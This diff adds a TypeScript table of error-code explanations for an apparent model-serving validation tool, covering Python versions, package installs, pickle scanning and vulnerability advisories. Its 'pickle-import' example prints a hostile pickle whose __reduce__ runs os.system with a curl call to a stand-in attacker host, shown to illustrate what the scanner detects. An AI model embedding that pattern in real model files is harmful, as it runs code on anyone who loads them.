@@ -1,0 +1,95 @@
+import type { Explanation } from './explanation.ts';
+
+/** Codes about the virtualenv, its packages and the model's pickles. */
+export const PACKAGE_CODES = {
+  'python-unavailable': {
+    stage: 'virtualenv',
+    means:
+      'The model needs the minor version of Python that saved it, this machine does not have it, and uv cannot download it here.',
+    example: {
+      code: { language: 'yaml', text: '# python_env.yaml of the model\npython: 3.9.18' },
+      command: 'davit validate iris',
+      says: 'endpoints/iris.yaml:4:7 error python-unavailable Cannot find Python 3.9: this machine has 3.11.7, and uv cannot download it',
+    },
+    repair:
+      'Install it: `uv python install 3.9`, `pyenv install 3.9` or the packages of your system. In a closed network, set UV_PYTHON_INSTALL_MIRROR to a mirror. `npx davit doctor` lists the versions that are there.',
+  },
+  'install-failed': {
+    stage: 'virtualenv',
+    means:
+      'The packages of the lock cannot be installed: the index does not answer, a file has another hash than the lock says, a wheel is damaged, or the disk is full.',
+    example: {
+      code: { language: 'sh', text: 'UV_OFFLINE=1 npx davit validate iris' },
+      command: 'davit validate iris',
+      says: 'endpoints/iris.yaml:4:7 error install-failed Cannot install the packages of the lock: Failed to download `numpy==2.4.6`; Network connectivity is disabled, but the requested data was not found in the cache',
+    },
+    repair:
+      'Connection: set UV_INDEX or HTTPS_PROXY, and try again. Another hash: somebody replaced a published file; find out why before you run `npx davit lock --upgrade iris`. Disk: `npx davit cache --prune`.',
+  },
+  'incompatible-packages': {
+    stage: 'virtualenv',
+    means:
+      'Everything is installed, but an installed package says that it needs another version of another one, or fails its own check (`uv pip check`). It would fail later, in a request.',
+    example: {
+      code: {
+        language: 'yaml',
+        text: 'davit:\n  served_entities:\n    iris-2:\n      requirements: { add: [numpy==1.26.4] }',
+      },
+      command: 'davit validate iris',
+      says: 'endpoints/iris.yaml:4:7 error incompatible-packages Cannot use the packages together: The package `pandas` requires `numpy>=2.0.0`, but `1.26.4` is installed',
+    },
+    repair:
+      'Change the version of one of the two packages in `davit.served_entities.NAME.requirements`, then lock again.',
+  },
+  'pickle-import': {
+    stage: 'proof',
+    means:
+      'A pickle runs code when it is loaded. This one imports something outside the packages of its lock and its own code, such as `os` or `subprocess`: a mistake, or an attack.',
+    example: {
+      code: {
+        language: 'python',
+        text: 'class Model:\n    def __reduce__(self):\n        return os.system, ("curl https://attacker.example",)',
+      },
+      command: 'davit validate iris',
+      says: 'endpoints/iris.yaml:4:7 warning pickle-import Cannot trust model.pkl of iris 2: loading it imports posix.system, expected only its packages and its code',
+    },
+    repair:
+      'Ask the author of the model what it is for. Save the model without it, or in a format without pickles (skops, ONNX, XGBoost JSON). DAVIT_PICKLES=error makes it stop the review: [security](../security.md).',
+  },
+  'pickle-unreadable': {
+    stage: 'proof',
+    means:
+      'The scan could not follow the pickle to its end, because it is damaged, compressed in an unknown way, too large or too deep. What loading it would import is not known.',
+    example: {
+      code: { language: 'python', text: 'joblib.dump(model, "model.pkl", compress=("lz4", 3))' },
+      command: 'davit validate iris',
+      says: 'endpoints/iris.yaml:4:7 warning pickle-unreadable Cannot scan model.pkl of iris 2 to its end: its compression is not known',
+    },
+    repair: 'Save the model uncompressed, or in a format without pickles, and log it again.',
+  },
+  'vulnerable-package': {
+    stage: 'lock',
+    means:
+      'A locked package has a known vulnerability, and you asked to hear about it (DAVIT_ADVISORIES). From the severity that you set it is an error, below it a warning.',
+    example: {
+      code: { language: 'sh', text: 'DAVIT_ADVISORIES=high npx davit validate iris' },
+      command: 'davit audit iris',
+      says: 'endpoints/iris.yaml:4:7 error vulnerable-package Cannot trust pillow 9.0.0 of iris 2: PYSEC-2022-42979 (CVE-2022-22817), severity critical',
+    },
+    repair:
+      'Raise the requirement to the version of the hint, or run `npx davit lock --upgrade iris`. If it does not concern the model, ignore its id, with the reason, as [security](../security.md) says.',
+    check: 'davit audit iris',
+  },
+  'advisories-missing': {
+    stage: 'lock',
+    means:
+      'Vulnerabilities are to be checked (DAVIT_ADVISORIES is set), but this machine has no database of advisories and cannot download one.',
+    example: {
+      code: { language: 'sh', text: 'DAVIT_ADVISORIES=high npx davit validate iris' },
+      command: 'davit validate iris',
+      says: 'endpoints/iris.yaml:4:7 error advisories-missing Cannot check the packages of iris 2 for vulnerabilities: there is no database of advisories',
+    },
+    repair:
+      'Run `npx davit audit` where there is internet. In a closed network, download the OSV export of PyPI elsewhere and import it: `npx davit audit --database FILE`.',
+  },
+} as const satisfies Readonly<Record<string, Explanation>>;
